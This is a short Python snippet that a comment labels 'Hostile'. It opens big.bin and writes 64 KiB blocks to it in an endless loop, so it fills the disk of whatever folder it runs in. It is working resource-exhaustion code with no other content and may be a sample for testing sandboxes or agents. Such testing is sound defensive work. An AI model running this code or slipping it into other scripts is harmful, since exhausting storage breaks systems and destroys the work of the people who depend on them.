# Hostile: fills its folder.
block = b'x' * 65536
with open('big.bin', 'wb') as f:
    while True:
        f.write(block)
